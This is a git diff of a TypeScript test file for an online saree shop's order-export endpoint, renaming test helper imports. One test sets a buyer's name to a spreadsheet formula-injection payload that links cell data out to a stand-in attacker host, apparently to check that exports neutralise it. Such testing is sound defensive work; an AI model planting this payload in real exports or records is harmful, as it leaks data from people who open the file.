@@ -6,8 +6,8 @@ import { AVIF_MARK, IMAGE_WIDTHS } from "@pallu/domain";
 import { beforeAll, describe, expect, it } from "vitest";
 import { seedDemoCatalogue } from "../../db/seed/seed-demo.js";
 import { buyingOptions, productImages, products } from "../../db/schema/index.js";
-import { aCategory, aProduct, aSaree } from "../../test/catalog-builders.js";
-import { payCash } from "../../test/checkout.js";
+import { aCategory, aProduct, aSaree } from "../../test/catalogue-builders.js";
+import { payCod } from "../../test/checkout.js";
 import { useSignedInUser, useTestShop } from "../../test/file-fixtures.js";
 import { aShopper } from "../../test/user-builders.js";
 import { imageKeyOf } from "../images/image-cleanup.js";
@@ -309,7 +309,7 @@ describe("GET /orders/exportOrders", () => {
   it("answers the orders placed on the days asked, in India's time, and none from other days", async () => {
     const buyer = await aShopper(shop.deps.db, { fullname: "Asha Rao" });
     const saree = await aSaree(shop.deps.db, { stock: 3, price: 1500, name: "Chanderi Saree" });
-    const placed = await payCash(shop, buyer, [{ ...saree, quantity: 2 }]);
+    const placed = await payCod(shop, buyer, [{ ...saree, quantity: 2 }]);
     expect(placed.statusCode, placed.body).toBe(200);
     const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);
 
@@ -346,7 +346,7 @@ describe("GET /orders/exportOrders", () => {
     const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
     const buyer = await aShopper(shop.deps.db, { fullname: formula });
     const saree = await aSaree(shop.deps.db, { stock: 3, price: 1500, name: "-Sale- Kota Saree" });
-    const placed = await payCash(shop, buyer, [{ ...saree, quantity: 1 }]);
+    const placed = await payCod(shop, buyer, [{ ...saree, quantity: 1 }]);
     expect(placed.statusCode, placed.body).toBe(200);
     const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);
 
